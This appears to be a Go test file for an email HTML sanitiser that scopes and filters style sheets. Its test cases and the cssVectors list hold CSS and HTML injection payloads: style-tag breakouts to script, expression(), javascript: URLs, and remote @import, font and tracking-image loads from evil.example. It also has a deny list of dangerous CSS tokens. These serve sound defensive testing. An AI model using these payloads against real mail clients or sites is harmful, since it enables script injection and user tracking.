package htmlmail

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// sheet sanitises one <style> sheet in a small document and returns the CSS.
func sheet(t *testing.T, css string, opts Options) Result {
	t.Helper()
	opts.Styles = true
	return mustSanitize(t, `<html><head><style>`+css+`</style></head><body><h1 class="title">Hi</h1></body></html>`, "utf-8", opts)
}

func TestStylesheetRules(t *testing.T) {
	const S = "#" + ScopeID
	cases := []struct {
		name, in, want string
	}{
		{"class rule", `.title { color: #c00; font-weight: bold }`, S + ` .title { color: #c00; font-weight: bold }` + "\n"},
		{"body maps to scope", `body { background-color: #eee; margin: 0 }`, S + ` { background-color: #eee; margin: 0 }` + "\n"},
		{"html body td", `html body td.x { color: red }`, S + ` td.x { color: red }` + "\n"},
		{"root", `:root { color: red }`, S + ` { color: red }` + "\n"},
		{"html > body > p", `html > body > p { color: red }`, S + ` > p { color: red }` + "\n"},
		{"selector list", `h1, .a > p, * { color: red }`, S + ` h1, ` + S + ` .a > p, ` + S + ` * { color: red }` + "\n"},
		{"body sibling dropped", `body + div { color: red } p { color: blue }`, S + ` p { color: blue }` + "\n"},
		{"body not leading dropped", `div body { color: red }`, ""},
		{"one bad selector drops the rule", `p, :has(a) { color: red }`, ""},
		{"pseudo", `a:hover, tr:nth-child(2n+1) td, p::first-line { color: red }`, S + ` a:hover, ` + S + ` tr:nth-child(2n+1) td, ` + S + ` p::first-line { color: red }` + "\n"},
		{"attribute", `td[align=center], a[href^="https"] { color: red }`, S + ` td[align="center"], ` + S + ` a[href^="https"] { color: red }` + "\n"},
		{"important", `.a { color: red !important; display: none ! IMPORTANT }`, S + ` .a { color: red !important; display: none !important }` + "\n"},
		{"media kept", `@media only screen and (max-width: 600px) { .a { width: 100% !important } }`,
			"@media only screen and (max-width: 600px) {\n" + S + " .a { width: 100% !important }\n}\n"},
		{"media with nothing left", `@media screen { .a { position: fixed } }`, ""},
		{"nested media dropped", `@media screen { @media print { .a { color: red } } .b { color: blue } }`,
			"@media screen {\n" + S + " .b { color: blue }\n}\n"},
		{"media function dropped", `@media (min-width: calc(1px)) { .a { color: red } }`, ""},
		{"position dropped", `.a { position: fixed; top: 0; color: red }`, S + ` .a { color: red }` + "\n"},
		{"sticky dropped", `.a { position: sticky }`, ""},
		{"behavior", `.a { behavior: url(x.htc); -moz-binding: url(x.xml#x); color: red }`, S + ` .a { color: red }` + "\n"},
		{"expression", `.a { width: expression(alert(1)); color: red }`, S + ` .a { color: red }` + "\n"},
		{"escaped expression", `.a { width: e\78 pression(alert(1)) }`, ""},
		{"import", `@import url(https://evil.example/x.css); @charset "utf-8"; .a { color: red }`, S + ` .a { color: red }` + "\n"},
		{"font-face", `@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a { color: red }`, S + ` .a { color: red }` + "\n"},
		{"content", `.a::before { content: url(https://t.example/p.gif) } .b::after { content: "x" }`, ""},
		{"keyframes", `@keyframes k { from { color: red } } .a { animation: k 1s }`, ""},
		{"custom property", `.a { --x: red; color: var(--x) }`, ""},
		{"nesting dropped", `.a { color: red; .b { color: blue } }`, S + ` .a { color: red }` + "\n"},
		{"comments", `/* x */ .a { color: /* x */ red }`, S + ` .a { color: red }` + "\n"},
		// The HTML parser ends the sheet at a literal "</style>" wherever
		// it is; what matters is that CSS escapes cannot make one.
		{"style end in comment", `/* </style><script>alert(1)</script> */ .a { color: red }`, ""},
		{"style end in string", `.a { font-family: "</style><script>alert(1)</script>" }`, ""},
		{"escaped style end in attribute selector", `a[title="\3c/style\3e\3cscript\3e"] { color: red }`,
			S + ` a[title="\3c /style\3e \3c script\3e "] { color: red }` + "\n"},
		{"cdo cdc", `<!-- .a { color: red } -->`, S + ` .a { color: red }` + "\n"},
		{"bad prelude without block", `.a { color: red } .b`, S + ` .a { color: red }` + "\n"},
		{"unclosed block", `.a { color: red`, ""},
		{"escaped class", `.\31 23 { color: red }`, S + ` .\31 23 { color: red }` + "\n"},
		{"vendor prefix", `.a { -webkit-border-radius: 4px }`, S + ` .a { -webkit-border-radius: 4px }` + "\n"},
		{"namespace selector", `svg|a { color: red }`, ""},
		{"url in color", `.a { color: url(https://x.example/) }`, ""},
		{"javascript url", `.a { background-image: url(javascript:alert(1)) }`, ""},
		{"relative url", `.a { background-image: url(/logout) }`, ""},
		{"data png", `.a { background-image: url(data:image/png;base64,iVBORw0KGgo=) }`,
			S + ` .a { background-image: url("data:image/png;base64,iVBORw0KGgo=") }` + "\n"},
		{"data svg", `.a { background-image: url("data:image/svg+xml;base64,PHN2Zz4=") }`, ""},
		{"cid", `.a { background: #fff url(cid:logo@x) no-repeat }`, S + ` .a { background: #fff url("/cid/logo@x") no-repeat }` + "\n"},
		{"image-set", `.a { background-image: image-set("x.png" 1x) }`, ""},
	}
	for _, tc := range cases {
		res := sheet(t, tc.in, Options{CIDURL: testCIDURL})
		if res.CSS != tc.want {
			t.Errorf("%s:\n  in:   %q\n  got:  %q\n  want: %q", tc.name, tc.in, res.CSS, tc.want)
		}
		for _, p := range cssProblems(res.CSS, false) {
			t.Errorf("%s: %s\n  out: %q", tc.name, p, res.CSS)
		}
	}
}

func TestStylesheetRemote(t *testing.T) {
	const in = `.a { background-image: url("https://t.example/bg.png") } .b { background: url(//t.example/x.png) } .c { color: red }`
	res := sheet(t, in, Options{})
	if res.RemoteBlocked != 2 || strings.Contains(res.CSS, "t.example") || !strings.Contains(res.CSS, ".c { color: red }") {
		t.Errorf("blocked: RemoteBlocked = %d, CSS %q", res.RemoteBlocked, res.CSS)
	}
	res = sheet(t, in, Options{AllowRemoteImages: true})
	want := `#` + ScopeID + ` .a { background-image: url("https://t.example/bg.png") }` + "\n" +
		`#` + ScopeID + ` .b { background: url("https://t.example/x.png") }` + "\n"
	if res.RemoteBlocked != 0 || !strings.HasPrefix(res.CSS, want) {
		t.Errorf("allowed: RemoteBlocked = %d, CSS %q", res.RemoteBlocked, res.CSS)
	}
	for _, p := range cssProblems(res.CSS, true) {
		t.Error(p)
	}
}

func TestStylesheetClassesOnlyWithStyles(t *testing.T) {
	const in = `<style>.t{color:red}</style><p class="t x-1">a</p>`
	without := mustSanitize(t, in, "utf-8", Options{})
	if strings.Contains(without.HTML, "class") || without.CSS != "" {
		t.Errorf("without Styles: %q %q", without.HTML, without.CSS)
	}
	with := mustSanitize(t, in, "utf-8", Options{Styles: true})
	if !strings.Contains(with.HTML, `class="t x-1"`) || with.CSS == "" {
		t.Errorf("with Styles: %q %q", with.HTML, with.CSS)
	}
	dup := mustSanitize(t, `<p id="`+ScopeID+`">a</p><p id="other">b</p>`, "utf-8", Options{Styles: true})
	if strings.Contains(dup.HTML, ScopeID) || !strings.Contains(dup.HTML, `id="other"`) {
		t.Errorf("the wrapper's id in the message: %q", dup.HTML)
	}
	bad := mustSanitize(t, `<p class="a&quot;onclick=x">a</p>`, "utf-8", Options{Styles: true})
	if strings.Contains(bad.HTML, "class") {
		t.Errorf("odd class kept: %q", bad.HTML)
	}
}

func TestNewsletterStylesKept(t *testing.T) {
	res := mustSanitize(t, newsletter, "utf-8", Options{Styles: true})
	for _, want := range []string{"#" + ScopeID + " .hide { display: none }", "@media (max-width: 600px) {\n#" + ScopeID + " td { display: block }\n}"} {
		if !strings.Contains(res.CSS, want) {
			t.Errorf("CSS lacks %q:\n%s", want, res.CSS)
		}
	}
	if !strings.Contains(res.HTML, `class="title"`) {
		t.Errorf("class lost: %s", res.HTML)
	}
}

func TestStylesheetBounds(t *testing.T) {
	// Deep nesting: the sheet is dropped, quickly.
	deep := strings.Repeat("(", 100_000) + ".a{color:red}"
	// Many rules: at most maxCSSRules survive.
	many := strings.Repeat(".a{color:red}", maxCSSRules+100)
	// Over the size bound: dropped whole.
	big := ".b{color:red}" + strings.Repeat(" ", MaxStyleSize)
	// Quadratic traps: endless selectors and declarations.
	sels := strings.Repeat(".a,", 50_000) + ".a{color:red}"
	decls := ".a{" + strings.Repeat("color:red;", 20_000) + "}"
	// Empty @media blocks after many kept rules: no copying per block.
	media := strings.Repeat(".a{color:red}", 1000) + strings.Repeat("@media a{.x{position:fixed}}", 7000)
	for name, css := range map[string]string{"deep": deep, "many": many, "big": big, "selectors": sels, "decls": decls, "media": media} {
		start := time.Now()
		res := sheet(t, css, Options{})
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: took %v", name, d)
		}
		n := strings.Count(res.CSS, "\n")
		switch name {
		case "media":
			if n != 1000 {
				t.Errorf("media: %d rules kept, want 1000", n)
			}
		case "many":
			if n != maxCSSRules {
				t.Errorf("many: %d rules kept, want %d", n, maxCSSRules)
			}
		case "decls":
			if c := strings.Count(res.CSS, "color"); c != maxDeclsInRule {
				t.Errorf("decls: %d kept, want %d", c, maxDeclsInRule)
			}
		default:
			if res.CSS != "" {
				t.Errorf("%s: kept %d bytes", name, len(res.CSS))
			}
		}
	}
}

// cssVectors are stylesheet attacks for TestXSSVectors-style checking.
var cssVectors = []string{
	`</style><script>alert(1)</script>`,
	`.a{font-family:"</style><script>alert(1)</script>"}`,
	`/*</style><img src=x onerror=alert(1)>*/`,
	`@import 'https://evil.example/x.css';`,
	`@\69mport url(https://evil.example/x.css);`,
	`body{background:url(https://evil.example/track.gif)}`,
	`*{background-image:u\72l(https://evil.example/)}`,
	`.a{background-image:url("java\73 cript:alert(1)")}`,
	`.a{behavior:url(#default#time2)}`,
	`.a{-moz-binding:url("https://evil.example/xbl.xml#xss")}`,
	`.a{width:expression(alert(1))}`,
	`.a{position:fixed;top:0;left:0;width:100%;height:100%}`,
	`html{position:absolute}`,
	`@font-face{font-family:x;src:url(https://evil.example/f.woff)}`,
	`.a::after{content:url(https://evil.example/p.gif)}`,
	`@media screen{}</style><script>alert(1)</script>`,
	`@namespace svg url(http://www.w3.org/2000/svg);`,
	`.a{background:url(cid:x")}`,
	`:not(#` + ScopeID + `) *{display:none}`,
	`#` + ScopeID + ` ~ *{display:none}`,
}

func TestCSSVectors(t *testing.T) {
	s := NewSanitizer()
	for _, v := range cssVectors {
		for _, allow := range []bool{false, true} {
			doc := `<html><head><style>` + v + `</style></head><body><p class="a">text</p></body></html>`
			res, err := s.Sanitize(strings.NewReader(doc), "utf-8", Options{Styles: true, AllowRemoteImages: allow, CIDURL: testCIDURL})
			if err != nil {
				t.Errorf("%q: %v", v, err)
				continue
			}
			for _, p := range append(problems(res.HTML, allow), cssProblems(res.CSS, allow)...) {
				t.Errorf("%q (remote=%v): %s\n  css: %q\n  html: %q", v, allow, p, res.CSS, res.HTML)
			}
		}
	}
}

// TestXSSVectorsWithStyles runs the HTML vectors with sheets kept too.
func TestXSSVectorsWithStyles(t *testing.T) {
	s := NewSanitizer()
	for _, v := range xssVectors {
		res, err := s.Sanitize(strings.NewReader(v.payload), "", Options{Styles: true, CIDURL: testCIDURL})
		if err != nil {
			t.Errorf("%s: %v", v.name, err)
			continue
		}
		for _, p := range append(problems(res.HTML, false), cssProblems(res.CSS, false)...) {
			t.Errorf("%s: %s\n  css: %q\n  html: %q", v.name, p, res.CSS, res.HTML)
		}
	}
}

// cssProblems is the test-side definition of a safe sheet, written
// independently of the sanitiser: it reads the output as text, split
// into rules with quotes respected.
func cssProblems(css string, allowRemote bool) []string {
	var found []string
	add := func(format string, args ...any) { found = append(found, fmt.Sprintf(format, args...)) }
	l := strings.ToLower(css)
	if strings.Contains(l, "<") {
		add("'<' in sheet")
	}
	for _, bad := range []string{"/*", "expression", "position", "behavior", "binding", "@import", "@font-face",
		"@charset", "@namespace", "javascript:", "content", "image-set", "var(", "calc(", "attr("} {
		if strings.Contains(unquoted(l), bad) {
			add("sheet contains %q", bad)
		}
	}
	for _, u := range strings.Split(l, "url(")[1:] {
		u = strings.TrimPrefix(u, `"`)
		switch {
		case strings.HasPrefix(u, "/cid/"), strings.HasPrefix(u, "data:image/png;base64,"),
			strings.HasPrefix(u, "data:image/gif;base64,"), strings.HasPrefix(u, "data:image/jpeg;base64,"),
			strings.HasPrefix(u, "data:image/webp;base64,"):
		case allowRemote && (strings.HasPrefix(u, "https://") || strings.HasPrefix(u, "http://")):
		default:
			add("url(%.40s", u)
		}
	}
	for _, line := range strings.Split(strings.TrimSuffix(css, "\n"), "\n") {
		switch {
		case line == "", line == "}":
			continue
		case strings.HasPrefix(line, "@media ") && strings.HasSuffix(line, " {"):
			continue
		case strings.HasPrefix(line, "@"):
			add("at-rule %q", line)
			continue
		}
		sels, _, ok := cutUnquoted(line, " { ")
		if !ok {
			add("not a rule: %q", line)
			continue
		}
		for {
			sel, rest, more := cutUnquoted(sels, ", ")
			if !strings.HasPrefix(sel, "#"+ScopeID) {
				add("selector not scoped: %q", sel)
			}
			if r := strings.TrimPrefix(sel, "#"+ScopeID); strings.HasPrefix(r, " +") || strings.HasPrefix(r, " ~") {
				add("selector reaches a sibling of the scope: %q", sel)
			}
			if !more {
				break
			}
			sels = rest
		}
	}
	return found
}

// unquoted returns s with the content of double-quoted strings removed.
func unquoted(s string) string {
	var b strings.Builder
	in := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case in && c == '\\':
			i++
		case c == '"':
			in = !in
		case !in:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// cutUnquoted is strings.Cut that skips over double-quoted strings.
func cutUnquoted(s, sep string) (string, string, bool) {
	in := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case in && c == '\\':
			i++
		case c == '"':
			in = !in
		case !in && strings.HasPrefix(s[i:], sep):
			return s[:i], s[i+len(sep):], true
		}
	}
	return s, "", false
}

// FuzzStylesheet checks sanitised sheets against cssProblems and that
// sanitising the output again gives it back unchanged.
//
//	go test -run=^$ -fuzz=FuzzStylesheet ./internal/htmlmail/
func FuzzStylesheet(f *testing.F) {
	for _, v := range cssVectors {
		f.Add(v, false)
	}
	f.Add(`@media only screen and (max-width: 600px) { .a, body > td:nth-child(2n+1) { width: 100% !important } }`, true)
	f.Add(`.a[title="x, y { z"] { background: #fff url("https://x.example/a.png") no-repeat; font: italic bold 12px/1.5 "Helvetica Neue", serif }`, true)
	f.Add(`.\31 a, #x\:y { color: rgb(1, 2, 3) }`, false)
	s := NewSanitizer()
	f.Fuzz(func(t *testing.T, css string, allowRemote bool) {
		opts := Options{Styles: true, AllowRemoteImages: allowRemote}
		doc := `<html><head><style>` + css + `</style></head><body><p class="a">x</p></body></html>`
		res, err := s.Sanitize(strings.NewReader(doc), "utf-8", opts)
		if err != nil {
			return // ErrMalformed or ErrTooLarge from the HTML around it
		}
		for _, p := range cssProblems(res.CSS, allowRemote) {
			t.Errorf("%s\n  in:  %q\n  out: %q", p, css, res.CSS)
		}
		if strings.Contains(res.CSS, "</") {
			t.Fatalf("</ in output: %q", res.CSS)
		}
		again, err := s.Sanitize(strings.NewReader(`<style>`+res.CSS+`</style>`), "utf-8", opts)
		if err != nil {
			t.Fatalf("re-sanitising: %v", err)
		}
		if again.CSS != res.CSS {
			t.Errorf("not idempotent\n  in:     %q\n  first:  %q\n  second: %q", css, res.CSS, again.CSS)
		}
	})
}
